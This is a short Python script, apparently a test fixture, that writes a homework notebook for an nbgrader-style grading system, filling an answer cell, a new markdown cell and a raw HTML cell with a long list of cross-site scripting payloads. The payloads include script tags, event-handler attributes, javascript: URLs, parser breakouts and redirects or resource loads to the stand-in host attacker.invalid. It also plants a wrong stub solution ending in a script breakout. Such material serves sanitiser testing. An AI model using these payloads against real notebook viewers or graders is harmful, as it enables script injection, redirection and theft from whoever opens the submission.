import json

ANSWER = """
<script>alert('pwned')</script> <img src=x onerror=alert('pwned')> <svg onload=alert('pwned')><script>alert('pwned')</script></svg>
<iframe src="javascript:alert('pwned')"></iframe> <iframe srcdoc="<script>parent.alert('pwned')</script>"></iframe>
<object data="javascript:alert('pwned')"></object> <embed src="javascript:alert('pwned')"> <details open ontoggle=alert('pwned')>
<style>@import url(http://attacker.invalid/a.css); * { background: url(http://attacker.invalid/b.png) }</style>
<base href="http://attacker.invalid/"> <meta http-equiv=refresh content="0;url=http://attacker.invalid/">
<link rel=stylesheet href=http://attacker.invalid/c.css> <form action=http://attacker.invalid/><input autofocus onfocus=alert('pwned')>
<video src=x onerror=alert('pwned')><body onload=alert('pwned')> <math><mi//xlink:href="data:x,<script>alert('pwned')</script>">
< script >alert('pwned')</ script > <a href=javascript:alert('pwned')>a</a> <!--><img src=x onerror=alert('pwned')>-->
<textarea autofocus onfocus=alert('pwned')> </textarea><noscript><p title="</noscript><img src=x onerror=alert('pwned')>">

`<script>alert('pwned')</script>` ``` </code><script>alert('pwned')</script> ```

    </pre><script>alert('pwned')</script>

| a | <img src=x onerror=alert('pwned')> |
|---|---|
| <svg/onload=alert('pwned')> | b |
"""


def make(folder, release, references):
    """Put it into the answer and into cells of one's own."""
    for cell in release["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if name == "warmup_a":
            cell["source"] = ANSWER
        if name == "cross_corr_2d":
            cell["source"] = "def cross_corr_2d(X, K):\n    return X.new_zeros(1)\n# </script><script>alert('pwned')</script>"
    release["cells"].insert(2, {"cell_type": "markdown", "metadata": {}, "source": ANSWER})
    release["cells"].append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": ANSWER})
    (folder / "hw1.ipynb").write_text(json.dumps(release))
